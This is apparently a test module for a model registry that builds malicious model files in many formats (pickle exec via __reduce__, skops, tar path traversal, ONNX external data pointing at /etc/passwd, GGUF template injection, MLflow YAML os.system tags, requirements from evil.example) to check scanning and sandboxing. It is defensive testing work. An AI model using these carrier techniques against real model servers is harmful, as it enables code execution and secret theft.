"""Files that carry code, one for each way in which the formats of models are known to.

The code is the same in all of them and harmless: it tries to leave a mark on the disk, to call a
port, to read a secret, to run a program, and notes what came of it. Scanned here as at a
registration, and loaded as the server loads: in the sandbox, whatever the scan said.

`python -m tests.services.models.carriers` writes docs/robustness-formats.md.
"""

import io
import json
import os
import pickle
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import warnings
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cloudpickle  # type: ignore[import-untyped] # it has no types
import joblib
import numpy as np
from tests.engines.scanning import made_files
from tests.engines.scanning.samples import samples
from tests.engines.scanning.scan_bytes import scan_folder

from strongroom.engines.scanning.findings import RULES, Report, Verdict
from strongroom.services.jobs import sandbox

SECRET = "STRONGROOM_CARRIED_SECRET"
HERE = Path(__file__).parent
_PROGRAM = """
import os, socket, sys
done = {{}}
def attempt(name, act):
    try:
        act()
        done[name] = True
    except BaseException:
        done[name] = False
def mark():
    open({mark!r}, "w").close()
def call():
    socket.create_connection(("127.0.0.1", {port}), 2).close()
def tell():
    if not os.environ.get({secret!r}):
        open("/proc/%d/environ" % os.getppid(), "rb").read().index({secret!r}.encode())
def read():
    open({file!r}).read()
def run():
    if os.system("touch " + {mark!r}):
        raise OSError
for name, act in (("mark", mark), ("call", call), ("secret", tell), ("file", read), ("run", run)):
    attempt(name, act)
sys.code_ran = getattr(sys, "code_ran", []) + [done]
"""


@dataclass(frozen=True, slots=True)
class Carrier:
    """Files with code in them.

    Attributes:
        format: as people call it.
        how: where the code stands.
        files: of a model's folder.
    """

    format: str
    how: str
    files: Mapping[str, bytes]


@dataclass(frozen=True, slots=True)
class Seen:
    """What came of a carrier.

    Attributes:
        scan: of the registration.
        loaded: what came of it in the sandbox: `loaded`, `no loader`, `refused`, `an error`.
        ran: what the code did there; None: it did not run.
    """

    carrier: Carrier
    scan: Report
    loaded: str
    ran: Mapping[str, bool] | None


class Runs:
    """Runs a program when it is unpickled."""

    def __init__(self, program: str) -> None:
        self.program = program

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.program,)


# ---- the files ----


def carriers(program: str) -> list[Carrier]:
    """All of them, around one program."""
    plain = pickle.dumps(Runs(program), protocol=4)
    return [
        *_pickles(program, plain), *_arrays(program), *_archives(plain), *_graphs(),
        *_networks(plain), *_boosters(plain), *_folders(program, plain), *_others(),
    ]  # fmt: skip


def _pickles(program: str, plain: bytes) -> Iterator[Carrier]:
    yield Carrier("pickle", "a call in it", {"model.pkl": plain})
    old = pickle.dumps(Runs(program), protocol=0)
    yield Carrier("pickle, protocol 0", "the same as a text", {"model.pickle": old})
    made = cloudpickle.dumps(Runs(program))
    yield Carrier("cloudpickle", "a call in it", {"model.pkl": made})
    inner = b"\x80\x02B" + len(plain).to_bytes(4, "little") + plain + b"."
    yield Carrier("cloudpickle", "a class of its own", {"model.pkl": _own_class(program)})
    yield Carrier("pickle in a pickle", "bytes that are one", {"model.pkl": inner})
    for name, compress in (("joblib", 0), ("joblib, zlib", 3)):
        buffer = io.BytesIO()
        joblib.dump({"model": Runs(program)}, buffer, compress=compress)
        yield Carrier(name, "a call in it", {"model.joblib": buffer.getvalue()})
    buffer = io.BytesIO()
    joblib.dump([np.ones(2), np.array([Runs(program)], dtype=object)], buffer)
    yield Carrier("joblib with arrays", "an array of objects", {"model.joblib": buffer.getvalue()})


def _own_class(program: str) -> bytes:
    """An object whose class comes with it, and runs the program when it gets its state."""

    def setstate(self: Any, state: Any) -> None:  # noqa: ANN401 # as pickle calls it
        self.__dict__.update(state)
        exec(self.program)  # noqa: S102 # what this is about

    own: Any = type("Own", (), {"__setstate__": setstate, "__module__": "__main__"})
    setstate.__module__ = "__main__"  # cloudpickle writes out what nobody can import
    made = own()
    made.program = program
    data: bytes = cloudpickle.dumps(made)
    return data


def _arrays(program: str) -> Iterator[Carrier]:
    odd = np.array([Runs(program)], dtype=object)
    single, several = io.BytesIO(), io.BytesIO()
    np.save(single, odd, allow_pickle=True)
    np.savez(several, weights=odd)
    yield Carrier("NumPy `.npy`", "an array of objects", {"weights.npy": single.getvalue()})
    yield Carrier("NumPy `.npz`", "an array of objects", {"weights.npz": several.getvalue()})
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode"}
    words = {**text, "content": json.dumps(program), "is_json": True}
    nothing = {**text, "content": "null", "is_json": True}
    pair = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode"}
    node = {
        "__class__": "exec", "__module__": "builtins", "__loader__": "LossNode",
        "__reduce__": {"args": {**pair, "content": [words]}}, "content": nothing,
    }  # fmt: skip
    yield Carrier("skops", "a type that is a function", {"model.skops": _skops(node)})


def _skops(node: Mapping[str, Any], **members: bytes) -> bytes:
    schema = {**node, "protocol": 2, "_skops_version": "0.13"}
    return zipped(**{"schema.json": json.dumps(schema).encode(), **members})


def zipped(**members: bytes) -> bytes:
    """A zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _archives(plain: bytes) -> Iterator[Carrier]:
    inside = zipped(**{"a/model.pkl": plain})
    yield Carrier("zip", "a pickle in it", {"model.zip": inside})
    yield Carrier("7z", "a pickle in it", {"m.7z": made_files.seven_zip([("model.pkl", plain)])})
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        entry = tarfile.TarInfo("../../tmp/model.pkl")
        entry.size = len(plain)
        archive.addfile(entry, io.BytesIO(plain))
    yield Carrier("tar", "a path out of it", {"model.tar": buffer.getvalue()})
    shown = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}
    beside = _skops(shown, **{"more.pkl": plain})
    yield Carrier("skops", "a pickle beside the schema", {"model.skops": beside})


def _graphs() -> Iterator[Carrier]:
    for how, options in (
        ("data of a tensor in a file elsewhere", {"location": "../../../../etc/passwd"}),
        ("an operator of a library", {"domain": "evil.ops"}),
    ):
        yield Carrier("ONNX", how, {"model.onnx": onnx(**options)})
    read = made_files.saved_model(
        made_files.text_constant("/etc/passwd"), made_files.node("ReadFile"),
        made_files.node("WriteFile"), made_files.node("PyFunc"),
    )  # fmt: skip
    yield Carrier("TensorFlow SavedModel", "operators on files", {"saved_model.pb": read})
    yield Carrier("TensorFlow Lite", "an operator of a library",
                  {"model.tflite": made_files.tflite("EvilOp")})  # fmt: skip


def onnx(*, domain: str = "", location: str = "") -> bytes:
    """A graph that adds a constant."""
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    if location:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        entry = weight.external_data.add()
        entry.key, entry.value = "location", location
    shape = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [2]) for name in "xy"]
    node = helper.make_node("Add", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph([node], "g", shape[:1], shape[1:], [weight])
    imports = [helper.make_opsetid("", 20)]
    imports += [helper.make_opsetid(domain, 1)] if domain else []
    data: bytes = helper.make_model(graph, opset_imports=imports).SerializeToString()
    return data


def _networks(plain: bytes) -> Iterator[Carrier]:
    layer = {"class_name": "Lambda", "module": "keras.layers", "config": {"function": ["4wEA"]}}
    config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
    text = json.dumps(config).encode()
    yield Carrier("Keras `.keras`", "a Lambda layer", {"model.keras": zipped(**{
        "config.json": text, "metadata.json": b"{}", "model.weights.h5": made_files.hdf5(),
    })})  # fmt: skip
    old = made_files.hdf5(made_files.hdf5_text("model_config", text))
    yield Carrier("Keras `.h5`", "a Lambda layer", {"model.h5": old})
    link = made_files.hdf5_link("w", 64, b"\x00/etc/passwd\x00x\x00")
    yield Carrier("HDF5", "a link to another file", {"weights.h5": made_files.hdf5(link)})
    archive = {"m/data.pkl": plain, "m/version": b"3\n", "m/data/0": bytes(8)}
    yield Carrier("torch", "the pickle of its archive", {"model.pt": zipped(**archive)})
    marks = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    yield Carrier("torch, before 1.6", "its fourth stream", {"model.pth": marks + plain})
    script = {**archive, "m/data.pkl": b"\x80\x02N.", "m/constants.pkl": b"\x80\x02).",
              "m/code/x.py": b"def f():\n  ops.evil.run()\n"}  # fmt: skip
    yield Carrier("TorchScript", "an operator of a library", {"model.pt": zipped(**script)})
    head = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    tensors = len(head).to_bytes(8, "little") + head + bytes(8)
    yield Carrier("safetensors", "a pickle behind it", {"model.safetensors": tensors + plain})
    template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield Carrier("GGUF", "its chat template", {"model.gguf": _gguf(template)})


def _gguf(template: str) -> bytes:
    def text(value: str) -> bytes:
        return len(value.encode()).to_bytes(8, "little") + value.encode()

    body = text("tokenizer.chat_template") + (8).to_bytes(4, "little") + text(template)
    return b"GGUF" + (3).to_bytes(4, "little") + bytes(8) + (1).to_bytes(8, "little") + body


def _boosters(plain: bytes) -> Iterator[Carrier]:
    known = samples()
    for name, sample, file in (
        ("XGBoost, UBJSON", "xgboost.ubj", "model.ubj"),
        ("XGBoost, JSON", "xgboost.json", "model.json"),
        ("LightGBM", "lightgbm.model", "model.txt"), ("CatBoost", "catboost.cbm", "model.cbm"),
    ):  # fmt: skip
        yield Carrier(name, "a pickle behind it", {file: known[sample] + plain})


def _folders(program: str, plain: bytes) -> Iterator[Carrier]:
    sklearn = b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n"
    yield Carrier("MLflow, sklearn", "its pickle", {"MLmodel": sklearn, "model.pkl": plain})
    outside = sklearn.replace(b"model.pkl", b"../../model.pkl")
    yield Carrier("MLflow, sklearn", "a path out of the folder", {"MLmodel": outside})
    own = b"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n"
    code = program.encode()
    yield Carrier("MLflow, python_function", "`code_paths` and `loader_module`",
                  {"MLmodel": own, "code/evil.py": code})  # fmt: skip
    written = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
    written += b"    model_code_path: model.py\n"
    yield Carrier("MLflow, python_function", "a model from code",
                  {"MLmodel": written, "model.py": code})  # fmt: skip
    tag = b"flavors: !!python/object/apply:os.system ['id']\n"
    yield Carrier("MLflow", "a YAML tag of Python", {"MLmodel": tag})
    wishes = (
        b"--index-url http://evil.example/simple\nevil @ https://evil.example/evil.tar.gz\n-e .\n"
    )
    yield Carrier("requirements", "packages from elsewhere",
                  {"requirements.txt": wishes, "README.md": b"x"})  # fmt: skip
    shown = {"auto_map": {"AutoModel": "modeling.Evil"}, "trust_remote_code": True}
    yield Carrier("Hugging Face", "`auto_map` and a module",
                  {"config.json": json.dumps(shown).encode(), "modeling.py": code})  # fmt: skip


def _others() -> Iterator[Carrier]:
    yield Carrier("shared library", "all of it", {"ops.so": b"\x7fELF" + bytes(99)})
    false = json.dumps({"__class__": "os.system", "version": 1, "terms": ["id"]}).encode()
    yield Carrier("additive model of ours", "classes by name", {"m.additive.json": false})


# ---- scanning and loading ----


@dataclass(frozen=True, slots=True)
class Evidence:
    """What the program was seen to do to this machine.

    Attributes:
        seen: each carrier, scanned here and loaded in the sandbox.
        marked, called: the program left its mark, or called its port, while that was done.
        canary: the same program, run without any layer: what it can do, and what was seen of it.
    """

    seen: list[Seen]
    marked: bool
    called: int
    canary: Mapping[str, bool]


@contextmanager
def counting() -> Iterator[tuple[int, list[object]]]:
    """A port, and the calls to it."""
    calls: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.05)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                with suppress(TimeoutError):
                    connection, address = listener.accept()
                    connection.close()
                    calls.append(address)

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield listener.getsockname()[1], calls
        finally:
            ended.set()
            thread.join()


def evidence(folder: Path) -> Evidence:
    """Scan and load them all; then run the program itself, to see that it would be seen.

    Args:
        folder: empty, of this test.
    """
    mark, secret = folder / "mark", folder / "secret"
    secret.write_text("of the server")
    os.environ[SECRET] = "of the server"
    try:
        with counting() as (port, calls):
            body = _PROGRAM.format(mark=str(mark), port=port, secret=SECRET, file=str(secret))
            program = f"exec({body!r}, {{}})"  # with names of its own, whoever runs it
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                made = carriers(program)
            seen = _tried(made)
            marked, called = mark.exists(), len(calls)
            told = f"import sys, json\n{program}\nprint(json.dumps(sys.code_ran[0]))"
            bare = subprocess.run(
                [sys.executable, "-c", told], capture_output=True, check=True, text=True
            )
        canary = {**json.loads(bare.stdout), "mark seen": mark.exists(),
                  "call seen": len(calls) > called}  # fmt: skip
    finally:
        del os.environ[SECRET]
    return Evidence(seen, marked, called, canary)


def _tried(made: list[Carrier]) -> list[Seen]:
    names = [f"case{number:02}" for number in range(len(made))]
    files: dict[str, Path | bytes] = {
        f"{name}/in/{path}": data
        for name, one in zip(names, made, strict=True)
        for path, data in one.files.items()
    }
    limits = sandbox.Limits(memory_bytes=2 << 30, cpu_seconds=60, wall_seconds=300.0)
    result = sandbox.run(
        "carried:load_all", {"cases": names}, files_in=files, limits=limits,
        code=[HERE],
    )  # fmt: skip
    found: Any = result.output
    return [
        Seen(one, scan_folder(one.files), found[name]["loaded"], found[name]["ran"])
        for name, one in zip(names, made, strict=True)
    ]


# ---- the page ----

_STATES = {
    Verdict.MALICIOUS: "rejected", Verdict.UNREADABLE: "rejected",
    Verdict.REVIEW: "a person decides", Verdict.CLEAN: "passes",
}  # fmt: skip
_HEAD = """# Code in models, format by format

Each file below carries the same harmless program: it tries to leave a mark on the disk, to call a
port, to read a secret from the server's environment and a file of the server's, and to run a
command. Each is scanned as at a registration, and then loaded as the server loads models, in the
[sandbox](sandbox.md), **whatever the scan said**: the second layer is tried without the first.
Outside the sandbox none of it ran; inside, what ran reached nothing of the five. Run by itself,
without a layer, the same program does all five, and the test sees it: its canary.

Written by `python -m tests.services.models.carriers`; a test does all of it anew and compares.

| format | where the code stands | the scan | registration | in the sandbox | ran there | reached |
|---|---|---|---|---|---|---|
"""
_FOOT = """
*No loader*: the server has none for this format, so nothing of it is ever loaded, here or at an
endpoint. A version that a person admits is served from the sandbox, unless it became ONNX there.
What is not tried here: flaws of the parsers in the sandbox (ONNX Runtime, NumPy, scikit-learn),
which the sandbox is there for as well ([sandbox.md](sandbox.md) tries its layers one by one).
"""


def page(found: Evidence) -> str:
    """The page, of what was seen."""
    return _HEAD + "\n".join(_row(one) for one in found.seen) + "\n" + _FOOT


def _row(one: Seen) -> str:
    rules = sorted({
        finding.rule_id for finding in one.scan.findings
        if RULES[finding.rule_id].verdict is one.scan.verdict
    })  # fmt: skip
    ran = "no" if one.ran is None else "yes"
    reached = ", ".join(name for name, did in (one.ran or {}).items() if did) or "nothing"
    cells = (
        one.carrier.format, one.carrier.how, " ".join([f"{one.scan.verdict}:", *rules]).rstrip(":"),
        _STATES[one.scan.verdict], one.loaded, ran, reached,
    )  # fmt: skip
    return f"| {' | '.join(cells)} |"


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as given:
        sys.stdout.write(page(evidence(Path(given))))
